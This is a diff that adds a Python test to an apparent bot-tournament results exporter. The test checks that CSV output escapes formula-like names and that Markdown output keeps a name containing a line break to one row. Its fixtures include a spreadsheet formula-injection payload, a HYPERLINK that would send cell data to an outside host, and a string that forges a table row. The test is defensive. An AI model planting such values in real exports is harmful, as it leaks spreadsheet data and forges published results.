@@ -66,3 +66,19 @@ def test_formats_say_the_same_thing() -> None:
         assert grid[i][i] == "x"
     b_row = grid[1 + order.index("b")]
     assert b_row[1 + order.index("c")] == ""  # b and c never met in argentine-1v1
+
+
+def test_a_bots_name_is_text_in_a_spreadsheet_and_one_row_in_markdown() -> None:
+    """A name a spreadsheet would run as a formula (=, +, -, @ first: CSV injection, hostile
+    review round 5's `=HYPERLINK(...)`) is written behind a ' in CSV, numbers stay numbers;
+    a name holding a line break stays one Markdown row (it forged a row of a published
+    table)."""
+    rows = [{"bot": '=HYPERLINK("http://x/?"&B2,"ok")', "won": -1},
+            {"bot": "@SUM(A1)", "won": 3}, {"bot": "plain-name", "won": 0}]
+    parsed = list(csv.DictReader(io.StringIO(formats.to_csv("t", rows).split("\n", 1)[1])))
+    assert [p["bot"] for p in parsed] == [
+        "'=HYPERLINK(\"http://x/?\"&B2,\"ok\")", "'@SUM(A1)", "plain-name"]
+    assert [int(p["won"]) for p in parsed] == [-1, 3, 0]
+    forged = formats.to_markdown("x", [{"bot": "evil\n| 1 | fake | 99", "won": 1}])
+    assert forged.count("\n|") == 3  # header, rule and one row
+    assert "| evil \\| 1 \\| fake \\| 99 | 1 |" in forged
